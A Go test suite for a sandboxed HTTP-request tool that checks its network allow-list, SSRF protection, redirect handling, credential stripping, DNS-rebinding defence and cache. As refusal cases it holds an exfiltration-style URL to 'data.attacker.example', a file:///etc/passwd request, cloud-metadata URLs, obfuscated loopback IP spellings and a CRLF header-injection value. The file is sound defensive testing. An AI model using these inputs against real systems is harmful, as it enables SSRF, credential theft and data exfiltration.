package web

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/toolgate/toolgate/sandbox/egress"
	"github.com/toolgate/toolgate/sandbox/egress/egresstest"
	"github.com/toolgate/toolgate/tool"
)

// env is a small Internet on loopback: a real DNS server, an HTTP and an
// HTTPS server (both reached as api.test, other.test…), and the tool.
type env struct {
	dns   *egresstest.DNSServer
	ca    egresstest.CA
	plain *httptest.Server
	tls   *httptest.Server
	pp    int // plain port
	tp    int // TLS port
	dir   string
	mu    sync.Mutex
	ds    []egress.Decision
}

func (e *env) decisions() []egress.Decision {
	e.mu.Lock()
	defer e.mu.Unlock()
	return append([]egress.Decision(nil), e.ds...)
}

func newEnv(t *testing.T) *env {
	t.Helper()
	e := &env{dns: egresstest.NewDNSServer(t), ca: egresstest.NewCA(t, "api.test", "other.test"), dir: t.TempDir()}
	for _, n := range []string{"api.test", "other.test", "www.api.test"} {
		e.dns.Set(n, "127.0.0.1")
	}
	e.dns.Set("meta.test", "169.254.169.254")
	e.dns.Set("private.test", "10.1.2.3")
	mux := http.NewServeMux()
	mux.HandleFunc("/json", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		http.SetCookie(w, &http.Cookie{Name: "session", Value: "s3cr3t"})
		fmt.Fprintf(w, `{"ok":true,"ua":%q}`, r.UserAgent())
	})
	mux.HandleFunc("/latin1", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain; charset=iso-8859-1")
		w.Write([]byte("caf\xe9"))
	})
	mux.HandleFunc("/png", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "image/png")
		w.Write([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00"))
	})
	mux.HandleFunc("/big", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Length", strconv.Itoa(1<<20))
		w.Write(make([]byte, 1<<20))
	})
	mux.HandleFunc("/big-chunked", func(w http.ResponseWriter, r *http.Request) {
		for i := 0; i < 64; i++ {
			w.Write([]byte(strings.Repeat("x", 16<<10)))
			w.(http.Flusher).Flush()
		}
	})
	mux.HandleFunc("/slow", func(w http.ResponseWriter, r *http.Request) { <-r.Context().Done() })
	mux.HandleFunc("/injected", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, injectedPage)
	})
	mux.HandleFunc("/nostore", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Cache-Control", "no-store")
		io.WriteString(w, "private")
	})
	mux.HandleFunc("/redirect", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
	})
	mux.HandleFunc("/chain/{n}", func(w http.ResponseWriter, r *http.Request) {
		n, _ := strconv.Atoi(r.PathValue("n"))
		if n == 0 {
			io.WriteString(w, "end of chain")
			return
		}
		http.Redirect(w, r, "/chain/"+strconv.Itoa(n-1), http.StatusFound)
	})
	mux.HandleFunc("/echo", func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{"method": r.Method, "body": string(body), "headers": r.Header, "host": r.Host})
	})
	e.plain = httptest.NewServer(mux)
	t.Cleanup(e.plain.Close)
	e.tls = httptest.NewUnstartedServer(mux)
	e.tls.TLS = &tls.Config{Certificates: []tls.Certificate{e.ca.Cert}}
	e.tls.StartTLS()
	t.Cleanup(e.tls.Close)
	e.pp = e.plain.Listener.Addr().(*net.TCPAddr).Port
	e.tp = e.tls.Listener.Addr().(*net.TCPAddr).Port
	return e
}

// policy allows the test names on the test ports (and loopback addresses,
// where the test servers live).
func (e *env) policy(t *testing.T, allow ...string) *egress.Policy {
	t.Helper()
	if allow == nil {
		allow = []string{"api.test", "other.test", "*.api.test", "meta.test", "private.test", "rebind.test", "nxdomain.test"}
	}
	p, err := egress.NewPolicy(egress.PolicyConfig{Allow: allow, Ports: []int{80, 443, e.pp, e.tp},
		AllowAddrs: []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}, Resolver: e.dns.Resolver(),
		OnDecision: func(d egress.Decision) { e.mu.Lock(); e.ds = append(e.ds, d); e.mu.Unlock() }})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func (e *env) tool(t *testing.T, o Options) tool.Tool {
	t.Helper()
	if o.Policy == nil {
		o.Policy = e.policy(t)
	}
	if o.TLSConfig == nil {
		o.TLSConfig = &tls.Config{RootCAs: e.ca.Pool}
	}
	tools, err := Tools(o)
	if err != nil {
		t.Fatal(err)
	}
	return tools[0]
}

func (e *env) u(path string) string     { return fmt.Sprintf("http://api.test:%d%s", e.pp, path) }
func (e *env) tlsU(path string) string  { return fmt.Sprintf("https://api.test:%d%s", e.tp, path) }
func (e *env) other(path string) string { return fmt.Sprintf("http://other.test:%d%s", e.pp, path) }

func call(t *testing.T, tl tool.Tool, args any) tool.Result {
	t.Helper()
	raw, err := json.Marshal(args)
	if err != nil {
		t.Fatal(err)
	}
	res, err := tl.Run(context.Background(), tool.Call{Name: "http_request", Args: raw})
	if err != nil {
		t.Fatalf("Run returned a Go error: %v", err)
	}
	return res
}

func ok(t *testing.T, res tool.Result) Response {
	t.Helper()
	if res.IsError() {
		t.Fatalf("unexpected error: %s", res.Error.Text())
	}
	return res.Structured.(Response)
}

func fails(t *testing.T, res tool.Result, typ tool.ErrorType, contains ...string) *tool.Error {
	t.Helper()
	if !res.IsError() {
		t.Fatalf("want %s, got success: %s", typ, res.Text())
	}
	if res.Error.Type != typ {
		t.Fatalf("want %s, got %s", typ, res.Error.Text())
	}
	if res.Error.Suggestion == "" {
		t.Errorf("no suggestion: %s", res.Error.Text())
	}
	for _, c := range contains {
		if !strings.Contains(res.Error.Text(), c) {
			t.Errorf("%q not in %s", c, res.Error.Text())
		}
	}
	return res.Error
}

func TestDefinition(t *testing.T) {
	e := newEnv(t)
	d := e.tool(t, Options{}).Definition()
	if d.Name != "http_request" || d.Level != tool.LevelMedium || !d.Annotations.OpenWorld || d.Annotations.ReadOnly || !d.HasTag("web") {
		t.Errorf("definition %+v", d)
	}
	var schema struct {
		Required   []string                  `json:"required"`
		Properties map[string]map[string]any `json:"properties"`
	}
	if err := json.Unmarshal(d.InputSchema, &schema); err != nil {
		t.Fatal(err)
	}
	if len(schema.Required) != 1 || schema.Required[0] != "url" || schema.Properties["method"]["enum"] == nil {
		t.Errorf("input schema %s", d.InputSchema)
	}
	if _, err := New(Options{}); err == nil {
		t.Error("New accepted Options without a Policy")
	}
}

func TestBodies(t *testing.T) {
	e := newEnv(t)
	tl := e.tool(t, Options{})
	r := ok(t, call(t, tl, map[string]any{"url": e.u("/json")}))
	if r.Status != 200 || r.Body != `{"ok":true,"ua":"toolgate"}` || r.Binary || r.Headers["Content-Type"] != "application/json" {
		t.Errorf("json: %+v", r)
	}
	if _, ok := r.Headers["Set-Cookie"]; ok {
		t.Error("Set-Cookie was shown")
	}
	r = ok(t, call(t, tl, map[string]any{"url": e.tlsU("/latin1")}))
	if r.Body != "café" {
		t.Errorf("latin-1 body %q", r.Body)
	}
	r = ok(t, call(t, tl, map[string]any{"url": e.u("/png")}))
	if !r.Binary || !strings.Contains(r.Body, "binary body not shown: image/png, 18 bytes, sha256 ") || strings.Contains(r.Body, "PNG") {
		t.Errorf("binary body %+v", r)
	}
	res := call(t, tl, map[string]any{"url": e.u("/echo"), "method": "post", "headers": map[string]string{"Content-Type": "application/json", "User-Agent": "mine"}, "body": `{"a":1}`})
	r = ok(t, res)
	var echo struct {
		Method, Body string
		Headers      http.Header
	}
	json.Unmarshal([]byte(r.Body), &echo)
	if echo.Method != "POST" || echo.Body != `{"a":1}` || echo.Headers.Get("User-Agent") != "mine" {
		t.Errorf("echo %+v", echo)
	}
	if !strings.HasPrefix(res.Text(), "HTTP 200 OK — http://api.test:") {
		t.Errorf("text %q", res.Text())
	}
	r = ok(t, call(t, tl, map[string]any{"url": e.u("/json"), "method": "HEAD"}))
	if r.Status != 200 || r.Body != "" {
		t.Errorf("HEAD %+v", r)
	}
}

func TestArgumentErrors(t *testing.T) {
	e := newEnv(t)
	tl := e.tool(t, Options{MaxRequestBytes: 10})
	for _, tc := range []struct {
		args any
		typ  tool.ErrorType
	}{
		{map[string]any{"url": e.u("/"), "extra": 1}, tool.InvalidArguments},
		{map[string]any{"url": "ftp://api.test/"}, tool.InvalidArguments},
		{map[string]any{"url": "file:///etc/passwd"}, tool.InvalidArguments},
		{map[string]any{"url": "/relative"}, tool.InvalidArguments},
		{map[string]any{"url": ""}, tool.InvalidArguments},
		{map[string]any{"url": "http://user:pw@api.test/"}, tool.InvalidArguments},
		{map[string]any{"url": e.u("/"), "method": "TRACE"}, tool.InvalidArguments},
		{map[string]any{"url": e.u("/"), "headers": map[string]string{"Host": "evil.test"}}, tool.InvalidArguments},
		{map[string]any{"url": e.u("/"), "headers": map[string]string{"Proxy-Authorization": "x"}}, tool.InvalidArguments},
		{map[string]any{"url": e.u("/"), "headers": map[string]string{"X-A": "a\r\nX-B: b"}}, tool.InvalidArguments},
		{map[string]any{"url": e.u("/"), "headers": map[string]string{"bad header": "a"}}, tool.InvalidArguments},
		{map[string]any{"url": e.u("/"), "method": "POST", "body": "more than ten bytes"}, tool.TooLarge},
		{map[string]any{"url": "http://a.example.com%00.api.test/"}, tool.InvalidArguments},
	} {
		fails(t, call(t, tl, tc.args), tc.typ)
	}
	if len(e.decisions()) != 0 {
		t.Errorf("invalid calls reached the network: %+v", e.decisions())
	}
}

func TestPolicyRefusals(t *testing.T) {
	e := newEnv(t)
	tl := e.tool(t, Options{})
	// An unlisted domain: refused before any lookup; the error names the entry to add.
	te := fails(t, call(t, tl, map[string]any{"url": "https://data.attacker.example/?d=c2VjcmV0"}), tool.PermissionDenied,
		"not on the network allow-list", `"data.attacker.example"`, `"*.attacker.example"`)
	if te.Details["rule_to_add"] != "data.attacker.example" || te.Retryable {
		t.Errorf("details %v retryable %v", te.Details, te.Retryable)
	}
	if n := e.dns.AskedSuffix("attacker.example"); n != 0 {
		t.Errorf("the unlisted domain was looked up %d times", n)
	}
	// A metadata address behind an allowed name, and the metadata name itself.
	fails(t, call(t, tl, map[string]any{"url": "http://meta.test/latest/meta-data/iam/"}), tool.PermissionDenied, "SSRF", "169.254.169.254", "cloud metadata")
	fails(t, call(t, tl, map[string]any{"url": "http://metadata.google.internal/computeMetadata/v1/"}), tool.PermissionDenied)
	// A private address behind an allowed name.
	fails(t, call(t, tl, map[string]any{"url": "http://private.test/"}), tool.PermissionDenied, "SSRF", "10.1.2.3", "private")
	// IP literals, in every spelling.
	for _, h := range []string{"127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "0x7f.1", "2130706433", "0177.0.0.1", "169.254.169.254", "2852039166"} {
		fails(t, call(t, tl, map[string]any{"url": fmt.Sprintf("http://%s:%d/json", h, e.pp)}), tool.PermissionDenied, "IP address")
	}
	// A listed host on an unlisted port.
	fails(t, call(t, tl, map[string]any{"url": "https://api.test:8443/"}), tool.PermissionDenied, `"api.test:8443"`)
	for _, d := range e.decisions() {
		if d.Allowed {
			t.Errorf("allowed: %+v", d)
		}
	}
}

func TestNetworkFailures(t *testing.T) {
	e := newEnv(t)
	tl := e.tool(t, Options{Timeout: 300 * time.Millisecond})
	te := fails(t, call(t, tl, map[string]any{"url": "http://nxdomain.test/"}), tool.Unavailable, "could not be resolved")
	if !te.Retryable {
		t.Error("a DNS failure is not retryable")
	}
	ln, _ := net.Listen("tcp", "127.0.0.1:0")
	closed := ln.Addr().(*net.TCPAddr).Port
	ln.Close()
	p2, _ := egress.NewPolicy(egress.PolicyConfig{Allow: []string{"api.test"}, Ports: []int{closed},
		AllowAddrs: []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}, Resolver: e.dns.Resolver()})
	te = fails(t, call(t, e.tool(t, Options{Policy: p2}), map[string]any{"url": fmt.Sprintf("http://api.test:%d/", closed)}), tool.Unavailable, "could not connect")
	if !te.Retryable {
		t.Error("a refused connection is not retryable")
	}
	fails(t, call(t, tl, map[string]any{"url": e.u("/slow")}), tool.Timeout)
	tiny := e.tool(t, Options{MaxResponseBytes: 64 << 10})
	fails(t, call(t, tiny, map[string]any{"url": e.u("/big")}), tool.TooLarge, "1048576 bytes", "Range")
	fails(t, call(t, tiny, map[string]any{"url": e.u("/big-chunked")}), tool.TooLarge, "more than 65536 bytes")
}

func TestHTTPSAndCertificates(t *testing.T) {
	e := newEnv(t)
	r := ok(t, call(t, e.tool(t, Options{}), map[string]any{"url": e.tlsU("/json")}))
	if r.Status != 200 {
		t.Errorf("%+v", r)
	}
	// Without the test CA the certificate is not trusted.
	untrusted := e.tool(t, Options{TLSConfig: &tls.Config{}})
	fails(t, call(t, untrusted, map[string]any{"url": e.tlsU("/json")}), tool.Unavailable, "certificate")
}

func TestRedirects(t *testing.T) {
	e := newEnv(t)
	tl := e.tool(t, Options{})
	r := ok(t, call(t, tl, map[string]any{"url": e.u("/chain/5")}))
	if r.Body != "end of chain" || len(r.Redirects) != 5 || !strings.HasSuffix(r.URL, "/chain/0") {
		t.Errorf("5 redirects: %+v", r)
	}
	fails(t, call(t, tl, map[string]any{"url": e.u("/chain/6")}), tool.Unavailable, "more than 5 redirects")

	// Each hop is checked again: a redirect to an internal address is refused.
	for _, target := range []string{
		fmt.Sprintf("http://private.test:%d/", e.pp),
		fmt.Sprintf("http://127.0.0.1:%d/json", e.pp),
		fmt.Sprintf("http://[::ffff:127.0.0.1]:%d/json", e.pp),
		"http://meta.test/latest/meta-data/",
		"http://169.254.169.254/latest/meta-data/",
		"http://evil.example/",
	} {
		before := len(e.decisions())
		res := call(t, tl, map[string]any{"url": e.u("/redirect?to=" + target)})
		fails(t, res, tool.PermissionDenied, "redirect 1")
		ds := e.decisions()[before:]
		if len(ds) != 2 || !ds[0].Allowed || ds[1].Allowed {
			t.Errorf("redirect to %s: decisions %+v", target, ds)
		}
	}
	// https → http is refused.
	fails(t, call(t, tl, map[string]any{"url": e.tlsU("/redirect?to=" + e.u("/json"))}), tool.PermissionDenied, "https to http")
}

func TestCredentialsStayWithTheirHost(t *testing.T) {
	e := newEnv(t)
	tl := e.tool(t, Options{})
	headers := map[string]string{"Authorization": "Bearer tok", "Cookie": "a=b", "X-Api-Key": "k", "X-Trace": "keep"}
	echoed := func(r Response) http.Header {
		var echo struct{ Headers http.Header }
		if err := json.Unmarshal([]byte(r.Body), &echo); err != nil {
			t.Fatalf("%v: %q", err, r.Body)
		}
		return echo.Headers
	}
	// Another host: credentials dropped.
	h := echoed(ok(t, call(t, tl, map[string]any{"url": e.u("/redirect?to=" + e.other("/echo")), "headers": headers})))
	for _, k := range []string{"Authorization", "Cookie", "X-Api-Key"} {
		if h.Get(k) != "" {
			t.Errorf("%s reached another host: %v", k, h)
		}
	}
	if h.Get("X-Trace") != "keep" {
		t.Errorf("an ordinary header was dropped: %v", h)
	}
	// A subdomain is another host too.
	h = echoed(ok(t, call(t, tl, map[string]any{"url": e.u("/redirect?to=" + fmt.Sprintf("http://www.api.test:%d/echo", e.pp)), "headers": headers})))
	if h.Get("Authorization") != "" {
		t.Errorf("Authorization reached a subdomain: %v", h)
	}
	// The same host keeps them.
	h = echoed(ok(t, call(t, tl, map[string]any{"url": e.u("/redirect?to=/echo"), "headers": headers})))
	if h.Get("Authorization") != "Bearer tok" || h.Get("X-Api-Key") != "k" {
		t.Errorf("same-host redirect lost credentials: %v", h)
	}
	// No cookie jar: a cookie set by one response is not sent with the next.
	ok(t, call(t, tl, map[string]any{"url": e.u("/json")}))
	h = echoed(ok(t, call(t, tl, map[string]any{"url": e.u("/echo")})))
	if h.Get("Cookie") != "" {
		t.Errorf("a cookie was kept: %v", h)
	}
}

func TestGetOnly(t *testing.T) {
	e := newEnv(t)
	tl := e.tool(t, Options{GetOnly: true})
	ok(t, call(t, tl, map[string]any{"url": e.u("/json")}))
	fails(t, call(t, tl, map[string]any{"url": e.u("/echo"), "method": "POST", "body": "x"}), tool.PermissionDenied)
	fails(t, call(t, tl, map[string]any{"url": e.u("/echo"), "method": "DELETE"}), tool.PermissionDenied)
	fails(t, call(t, tl, map[string]any{"url": e.u("/echo"), "body": "x"}), tool.PermissionDenied)
}

// TestDNSRebinding: each request resolves once; the later, private answer
// is refused.
func TestDNSRebinding(t *testing.T) {
	e := newEnv(t)
	e.dns.Set("rebind.test", "127.0.0.1", "10.0.0.1")
	tl := e.tool(t, Options{})
	ok(t, call(t, tl, map[string]any{"url": fmt.Sprintf("http://rebind.test:%d/json", e.pp)}))
	if n := e.dns.Asked("rebind.test"); n != 1 {
		t.Fatalf("one request made %d lookups", n)
	}
	fails(t, call(t, tl, map[string]any{"url": fmt.Sprintf("http://rebind.test:%d/json", e.pp)}), tool.PermissionDenied, "SSRF", "10.0.0.1")
}

func TestCachedFallback(t *testing.T) {
	e := newEnv(t)
	dir := t.TempDir()
	tl := e.tool(t, Options{CacheDir: dir})
	u := e.u("/json")
	fresh := ok(t, call(t, tl, map[string]any{"url": u}))
	if fresh.Cached {
		t.Fatal("a fresh answer is marked cached")
	}
	ok(t, call(t, tl, map[string]any{"url": e.u("/nostore")}))
	ok(t, call(t, tl, map[string]any{"url": u, "headers": map[string]string{"Authorization": "Bearer other"}}))
	e.plain.Close() // the upstream goes down

	res := call(t, tl, map[string]any{"url": u})
	r := ok(t, res)
	if !r.Cached || r.Body != fresh.Body || r.Status != 200 || r.AgeSeconds < 0 || !strings.Contains(r.CacheNote, "network failed") {
		t.Errorf("cached answer %+v", r)
	}
	if !strings.Contains(res.Text(), "(cached: ") || res.Meta["cached"] != true {
		t.Errorf("the text does not say it is cached: %q %v", res.Text(), res.Meta)
	}
	// Not stored: no-store answers; other requests (method, headers) have their own entries.
	fails(t, call(t, tl, map[string]any{"url": e.u("/nostore")}), tool.Unavailable)
	fails(t, call(t, tl, map[string]any{"url": u, "method": "POST", "body": "{}"}), tool.Unavailable)
	fails(t, call(t, tl, map[string]any{"url": u, "headers": map[string]string{"Authorization": "Bearer third"}}), tool.Unavailable)
	// A refusal is never answered from the cache.
	strict := e.tool(t, Options{CacheDir: dir, Policy: e.policy(t, "other.test")})
	fails(t, call(t, strict, map[string]any{"url": u}), tool.PermissionDenied)

	des, _ := os.ReadDir(dir)
	for _, de := range des {
		if strings.Contains(de.Name(), ".tmp-") {
			t.Errorf("a temporary file was left: %s", de.Name())
		}
	}
	if len(des) != 2 {
		t.Errorf("%d cache files, want 2", len(des))
	}
}

func TestCacheCap(t *testing.T) {
	e := newEnv(t)
	dir := t.TempDir()
	tl := e.tool(t, Options{CacheDir: dir, MaxCacheBytes: 1500})
	for i := 0; i < 10; i++ {
		ok(t, call(t, tl, map[string]any{"url": e.u(fmt.Sprintf("/json?i=%d", i))}))
	}
	des, _ := os.ReadDir(dir)
	var total int64
	for _, de := range des {
		info, _ := de.Info()
		total += info.Size()
	}
	if total > 1500 || len(des) == 0 {
		t.Errorf("cache of %d bytes in %d files, cap 1500", total, len(des))
	}
	// The newest entry survives eviction.
	e.plain.Close()
	if r := ok(t, call(t, tl, map[string]any{"url": e.u("/json?i=9")})); !r.Cached {
		t.Error("the newest entry was evicted")
	}
}
